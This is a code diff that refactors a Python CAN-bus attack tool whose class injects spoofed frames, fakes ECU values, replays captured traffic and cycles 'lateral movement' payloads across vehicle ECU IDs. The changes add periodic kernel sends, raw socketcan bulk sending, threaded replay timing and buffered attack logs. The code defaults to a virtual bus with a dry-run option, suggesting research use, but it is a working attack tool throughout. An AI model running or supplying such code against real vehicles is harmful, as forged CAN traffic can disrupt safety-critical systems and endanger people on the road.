@@ -3,10 +3,19 @@ import time
 import os
 import can
 import json
+import queue
+import threading
 import random
 import argparse
-from typing import List, Dict, Any, Optional, Union
-from utils.can_bus import make_bus
+from typing import List, Dict, Any, Optional, Tuple, Union
+from utils.can_bus import make_bus, make_raw_socketcan, pack_frame, parse_can_id, SINGLE_BYTE
+from utils.jsonl import iter_jsonl
+
+# Bytes of log entries collected before AdvancedInjector writes them out
+LOG_BUFFER_SIZE = 1 << 16
+
+# Upper bound on distinct frames cached by replay_attack
+FRAME_CACHE_SIZE = 4096
 
 class AdvancedInjector:
     """
@@ -16,8 +25,19 @@ class AdvancedInjector:
     
     def __init__(self, bustype: str = "virtual", channel: Optional[str] = None):
         self.bus = make_bus(channel=channel, bustype=bustype)
+        self._bustype = bustype
+        self._channel = channel
+        # Raw CAN_RAW socket on the same interface for bulk sends, opened by
+        # replay_attack (the only user); stays None unless the bus is
+        # socketcan and the socket could be opened
+        self._raw = None
         self.log_path = os.path.join("data", "injection.log")
         os.makedirs("data", exist_ok=True)
+        # Keep a raw O_APPEND descriptor for the injector's lifetime and
+        # batch entries in our own buffer; they reach the file in one
+        # os.write when the buffer fills or an attack finishes
+        self._log_fd = os.open(self.log_path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
+        self._log_buf = bytearray()
         
     def log_attack(self, attack_type: str, can_id: int, payload: bytes, success: bool):
         """Log attack attempts for analysis"""
@@ -28,8 +48,55 @@ class AdvancedInjector:
             "payload": payload.hex(),
             "success": success
         }
-        with open(self.log_path, "a") as f:
-            f.write(json.dumps(log_entry) + "\n")
+        self._log_buf += (json.dumps(log_entry) + "\n").encode()
+        if len(self._log_buf) >= LOG_BUFFER_SIZE:
+            self.flush_log()
+
+    def flush_log(self):
+        """Push buffered log entries to disk"""
+        if self._log_fd is None or not self._log_buf:
+            return
+        view = memoryview(self._log_buf)
+        while view:
+            view = view[os.write(self._log_fd, view):]
+        view.release()
+        self._log_buf.clear()
+
+    def close(self):
+        """Flush, fsync and close the attack log"""
+        if self._raw is not None:
+            self._raw.close()
+            self._raw = None
+        if self._log_fd is None:
+            return
+        self.flush_log()
+        os.fsync(self._log_fd)
+        os.close(self._log_fd)
+        self._log_fd = None
+
+    def __del__(self):
+        if getattr(self, "_log_fd", None) is not None:
+            self.close()
+
+    def _send_periodic(self, attack_type: str, msg: can.Message,
+                       interval: float, duration: int) -> None:
+        """
+        Repeat a constant frame every interval seconds for duration seconds.
+        The cadence is handed to python-can (kernel BCM on socketcan, a
+        background thread elsewhere), so no Python round-trip per frame.
+        """
+        payload_bytes = bytes(msg.data)
+        try:
+            task = self.bus.send_periodic(msg, interval, duration=duration)
+        except Exception as e:
+            self.log_attack(attack_type, msg.arbitration_id, payload_bytes, False)
+            print(f"[{attack_type}] Periodic send failed: {e}")
+            return
+        try:
+            time.sleep(duration)
+        finally:
+            task.stop()
+        self.log_attack(attack_type, msg.arbitration_id, payload_bytes, True)
 
     def basic_injection(self, can_id: int, payload: Union[int, bytes], 
                        duration: int, interval: float = 0.1, 
@@ -38,21 +105,17 @@ class AdvancedInjector:
         Basic injection attack - continuously send spoofed frames.
         
         Args:
-            can_id: CAN ID to inject (hex format supported)
+            can_id: CAN ID to inject
             payload: Single byte value or full payload bytes
             duration: Attack duration in seconds
             interval: Time between injections
             dry_run: If True, only simulate without sending
         """
-        if isinstance(can_id, str):
-            can_id = int(can_id, 16)
-        
         if isinstance(payload, int):
-            payload_bytes = bytes([payload & 0xFF])
+            payload_bytes = SINGLE_BYTE[payload & 0xFF]
         else:
             payload_bytes = payload
             
-        end_time = time.time() + duration
         attack_type = "basic_injection"
         
         print(f"[{attack_type}] Starting injection: ID=0x{can_id:x}, payload={payload_bytes.hex()}")
@@ -60,26 +123,27 @@ class AdvancedInjector:
         
         if dry_run:
             print(f"[{attack_type}] DRY RUN MODE - No actual messages sent")
+
+        # Payload is constant for the whole attack: build the frame once
+        msg = can.Message(arbitration_id=can_id, data=payload_bytes, is_extended_id=False)
             
         try:
-            while time.time() < end_time:
-                if not dry_run:
-                    msg = can.Message(arbitration_id=can_id, data=payload_bytes, is_extended_id=False)
-                    try:
-                        self.bus.send(msg)
-                        self.log_attack(attack_type, can_id, payload_bytes, True)
-                        print(f"Injected: ID=0x{can_id:x} Data={payload_bytes.hex()}")
-                    except Exception as e:
-                        self.log_attack(attack_type, can_id, payload_bytes, False)
-                        print(f"Injection failed: {e}")
-                else:
+            if not dry_run:
+                print(f"Injecting: ID=0x{can_id:x} Data={payload_bytes.hex()} every {interval}s")
+                self._send_periodic(attack_type, msg, interval, duration)
+            else:
+                now, sleep = time.monotonic, time.sleep
+                deadline = now() + duration
+                next_tick = now() + interval
+                while now() < deadline:
                     print(f"[DRY] Would inject: ID=0x{can_id:x} Data={payload_bytes.hex()}")
-                    
-                time.sleep(interval)
+                    sleep(max(0.0, next_tick - now()))
+                    next_tick += interval
                 
         except KeyboardInterrupt:
             print(f"[{attack_type}] Cancelled by user")
         finally:
+            self.flush_log()
             print(f"[{attack_type}] Attack completed")
 
     def spoofing_attack(self, target_id: int, spoofed_value: int, 
@@ -96,34 +160,30 @@ class AdvancedInjector:
             interval: Time between injections
             dry_run: Simulation mode
         """
-        if isinstance(target_id, str):
-            target_id = int(target_id, 16)
-            
-        payload_bytes = bytes([spoofed_value & 0xFF])
-        end_time = time.time() + duration
+        payload_bytes = SINGLE_BYTE[spoofed_value & 0xFF]
         attack_type = "spoofing"
         
         print(f"[{attack_type}] Spoofing ID=0x{target_id:x}: {original_value} -> {spoofed_value}")
         
+        msg = can.Message(arbitration_id=target_id, data=payload_bytes, is_extended_id=False)
+        
         try:
-            while time.time() < end_time:
-                if not dry_run:
-                    msg = can.Message(arbitration_id=target_id, data=payload_bytes, is_extended_id=False)
-                    try:
-                        self.bus.send(msg)
-                        self.log_attack(attack_type, target_id, payload_bytes, True)
-                        print(f"Spoofed: ID=0x{target_id:x} Value={spoofed_value}")
-                    except Exception as e:
-                        self.log_attack(attack_type, target_id, payload_bytes, False)
-                        print(f"Spoofing failed: {e}")
-                else:
+            if not dry_run:
+                print(f"Spoofing: ID=0x{target_id:x} Value={spoofed_value} every {interval}s")
+                self._send_periodic(attack_type, msg, interval, duration)
+            else:
+                now, sleep = time.monotonic, time.sleep
+                deadline = now() + duration
+                next_tick = now() + interval
+                while now() < deadline:
                     print(f"[DRY] Would spoof: ID=0x{target_id:x} Value={spoofed_value}")
-                    
-                time.sleep(interval)
+                    sleep(max(0.0, next_tick - now()))
+                    next_tick += interval
                 
         except KeyboardInterrupt:
             print(f"[{attack_type}] Cancelled by user")
         finally:
+            self.flush_log()
             print(f"[{attack_type}] Spoofing attack completed")
 
     def replay_attack(self, log_file: str, duration: int, 
@@ -145,52 +205,120 @@ class AdvancedInjector:
             
         print(f"[{attack_type}] Replaying messages from {log_file}")
         print(f"[{attack_type}] Speed multiplier: {speed_multiplier}x")
+        if self._raw is None and self._bustype == "socketcan" and not dry_run:
+            self._raw = make_raw_socketcan(self._channel)
+        
+        # The main thread parses the log and feeds pre-built frames to a
+        # sender thread, which paces them against absolute monotonic
+        # deadlines so parsing and logging never delay a send
+        frames: "queue.Queue" = queue.Queue(maxsize=1024)
+        stop = threading.Event()
+        sender = threading.Thread(
+            target=self._replay_sender,
+            args=(frames, stop, attack_type, duration, dry_run),
+            daemon=True)
+        sender.start()
+        
+        def enqueue(item) -> bool:
+            while sender.is_alive():
+                try:
+                    frames.put(item, timeout=0.1)
+                    return True
+                except queue.Full:
+                    continue
+            return False
         
         try:
-            with open(log_file, 'r') as f:
-                messages = [json.loads(line.strip()) for line in f if line.strip()]
-                
-            if not messages:
-                print(f"[{attack_type}] No messages found in log file")
-                return
-                
-            start_time = time.time()
-            last_timestamp = messages[0].get('timestamp', start_time)
+            first_timestamp = None
+            offset = 0.0
+            replayed = 0
+            # Captures repeat the same frames (heartbeats, status) over and
+            # over; decode each distinct (id, payload) once and reuse the
+            # message (or packed raw frame), which send() never mutates
+            frame_cache: Dict[Tuple[int, str], Tuple[bytes, Union[can.Message, bytes]]] = {}
+            raw = self._raw is not None
             
-            for i, msg_data in enumerate(messages):
-                if time.time() - start_time >= duration:
-                    break
-                    
-                current_timestamp = msg_data.get('timestamp', time.time())
-                if i > 0:
-                    delay = (current_timestamp - last_timestamp) / speed_multiplier
-                    time.sleep(max(0, delay))
+            for msg_data in iter_jsonl(log_file):
+                current_timestamp = msg_data.get('timestamp')
+                if current_timestamp is not None:
+                    if first_timestamp is None:
+                        first_timestamp = current_timestamp
+                    offset = (current_timestamp - first_timestamp) / speed_multiplier
                     
                 can_id = int(msg_data.get('arbitration_id', 0x100))
                 payload_hex = msg_data.get('data', '00')
-                payload_bytes = bytes.fromhex(payload_hex)
+                key = (can_id, payload_hex)
+                cached = frame_cache.get(key)
+                if cached is None:
+                    if len(frame_cache) >= FRAME_CACHE_SIZE:
+                        frame_cache.clear()
+                    payload_bytes = bytes.fromhex(payload_hex)
+                    if raw:
+                        msg = pack_frame(can_id, payload_bytes)
+                    else:
+                        msg = can.Message(arbitration_id=can_id, data=payload_bytes, is_extended_id=False)
+                    cached = frame_cache[key] = (payload_bytes, msg)
+                payload_bytes, msg = cached
                 
-                if not dry_run:
-                    msg = can.Message(arbitration_id=can_id, data=payload_bytes, is_extended_id=False)
-                    try:
-                        self.bus.send(msg)
-                        self.log_attack(attack_type, can_id, payload_bytes, True)
-                        print(f"Replayed: ID=0x{can_id:x} Data={payload_bytes.hex()}")
-                    except Exception as e:
-                        self.log_attack(attack_type, can_id, payload_bytes, False)
-                        print(f"Replay failed: {e}")
-                else:
-                    print(f"[DRY] Would replay: ID=0x{can_id:x} Data={payload_bytes.hex()}")
-                    
-                last_timestamp = current_timestamp
+                if not enqueue((offset, can_id, payload_bytes, msg)):
+                    break  # sender hit the duration limit
+                replayed += 1
+                
+            enqueue(None)
+            while sender.is_alive():
+                sender.join(timeout=0.5)
+                
+            if not replayed:
+                print(f"[{attack_type}] No messages found in log file")
                 
         except KeyboardInterrupt:
             print(f"[{attack_type}] Cancelled by user")
         except Exception as e:
             print(f"[{attack_type}] Error: {e}")
         finally:
+            stop.set()
+            sender.join()
+            self.flush_log()
             print(f"[{attack_type}] Replay attack completed")
 
+    def _replay_sender(self, frames: "queue.Queue", stop: threading.Event,
+                       attack_type: str, duration: int, dry_run: bool) -> None:
+        """
+        Send (offset, can_id, payload, msg) items from frames at start + offset.
+        Stops at the None sentinel, when stop is set, or when the next frame
+        falls past the duration limit.
+        """
+        now = time.monotonic
+        start = now()
+        deadline = start + duration
+        # items carry packed frames when the raw socket is open
+        bus_send = self._raw.send if self._raw is not None else self.bus.send
+        
+        while not stop.is_set():
+            try:
+                item = frames.get(timeout=0.1)
+            except queue.Empty:
+                continue
+            if item is None:
+                break
+            offset, can_id, payload_bytes, msg = item
+            due = start + offset
+            if due >= deadline:
+                break
+            if stop.wait(max(0.0, due - now())):
+                break
+                
+            if not dry_run:
+                try:
+                    bus_send(msg)
+                    self.log_attack(attack_type, can_id, payload_bytes, True)
+                    print(f"Replayed: ID=0x{can_id:x} Data={payload_bytes.hex()}")
+                except Exception as e:
+                    self.log_attack(attack_type, can_id, payload_bytes, False)
+                    print(f"Replay failed: {e}")
+            else:
+                print(f"[DRY] Would replay: ID=0x{can_id:x} Data={payload_bytes.hex()}")
+
     def lateral_movement_attack(self, target_ids: List[int], 
                                payload_pattern: str = "escalate",
                                duration: int = 30, dry_run: bool = False) -> None:
@@ -208,30 +336,43 @@ class AdvancedInjector:
         print(f"[{attack_type}] Targeting {len(target_ids)} ECUs: {[f'0x{id:x}' for id in target_ids]}")
         print(f"[{attack_type}] Pattern: {payload_pattern}")
         
-        end_time = time.time() + duration
-        current_target = 0
+        if not target_ids:
+            print(f"[{attack_type}] No targets given")
+            return
+        
+        interval = 0.5  # Slower for lateral movement
+        n_targets = len(target_ids)
+        
+        # Precompute the whole schedule so the send loop only indexes into it:
+        # one entry per target for the fixed patterns, one pre-drawn value per
+        # tick for "random"
+        if payload_pattern == "escalate":
+            values = [min(255, 50 + i * 20) for i in range(n_targets)]
+        elif payload_pattern == "random":
+            values = list(random.randbytes(int(duration / interval) + 1))
+        else:  # sequential
+            values = [i * 10 for i in range(n_targets)]
+        schedule = []
+        for i, payload_value in enumerate(values):
+            target_id = target_ids[i % n_targets]
+            payload_bytes = SINGLE_BYTE[payload_value & 0xFF]
+            msg = can.Message(arbitration_id=target_id, data=payload_bytes, is_extended_id=False)
+            schedule.append((target_id, payload_value, payload_bytes, msg))
+        schedule_len = len(schedule)
+        bus_send = self.bus.send
+        
+        now, sleep = time.monotonic, time.sleep
+        deadline = now() + duration
+        next_tick = now() + interval
+        tick = 0
         
         try:
-            while time.time() < end_time:
-                if current_target >= len(target_ids):
-                    current_target = 0  # Cycle through targets
-                    
-                target_id = target_ids[current_target]
-                
-                # Generate payload based on pattern
-                if payload_pattern == "escalate":
-                    payload_value = min(255, 50 + current_target * 20)
-                elif payload_pattern == "random":
-                    payload_value = random.randint(0, 255)
-                else:  # sequential
-                    payload_value = current_target * 10
-                    
-                payload_bytes = bytes([payload_value])
+            while now() < deadline:
+                target_id, payload_value, payload_bytes, msg = schedule[tick % schedule_len]
                 
                 if not dry_run:
-                    msg = can.Message(arbitration_id=target_id, data=payload_bytes, is_extended_id=False)
                     try:
-                        self.bus.send(msg)
+                        bus_send(msg)
                         self.log_attack(attack_type, target_id, payload_bytes, True)
                         print(f"Lateral: ID=0x{target_id:x} Value={payload_value}")
                     except Exception as e:
@@ -240,12 +381,14 @@ class AdvancedInjector:
                 else:
                     print(f"[DRY] Would target: ID=0x{target_id:x} Value={payload_value}")
                     
-                current_target += 1
-                time.sleep(0.5)  # Slower for lateral movement
+                tick += 1
+                sleep(max(0.0, next_tick - now()))
+                next_tick += interval
                 
         except KeyboardInterrupt:
             print(f"[{attack_type}] Cancelled by user")
         finally:
+            self.flush_log()
             print(f"[{attack_type}] Lateral movement attack completed")
 
 # Legacy compatibility function
@@ -298,6 +441,9 @@ Attack Examples:
     
     args = parser.parse_args()
     
+    # Normalize IDs once so the injector methods only ever see ints
+    can_id = parse_can_id(args.id) if args.id else None
+    
     # Create injector
     injector = AdvancedInjector(bustype=args.bustype, channel=args.channel)
     
@@ -305,13 +451,13 @@ Attack Examples:
     if args.attack == "basic":
         if not args.id or args.value is None:
             parser.error("Basic attack requires --id and --value")
-        injector.basic_injection(args.id, args.value, args.duration, 
+        injector.basic_injection(can_id, args.value, args.duration, 
                                 args.interval, args.dry_run)
         
     elif args.attack == "spoof":
         if not args.id or args.spoof_value is None or args.original_value is None:
             parser.error("Spoof attack requires --id, --spoof-value, and --original-value")
-        injector.spoofing_attack(args.id, args.spoof_value, args.original_value,
+        injector.spoofing_attack(can_id, args.spoof_value, args.original_value,
                                 args.duration, args.interval, args.dry_run)
         
     elif args.attack == "replay":
@@ -322,7 +468,7 @@ Attack Examples:
     elif args.attack == "lateral":
         if not args.targets:
             parser.error("Lateral movement requires --targets")
-        target_ids = [int(id.strip(), 16) for id in args.targets.split(",")]
+        target_ids = [parse_can_id(id.strip()) for id in args.targets.split(",")]
         injector.lateral_movement_attack(target_ids, args.pattern, 
                                         args.duration, args.dry_run)
 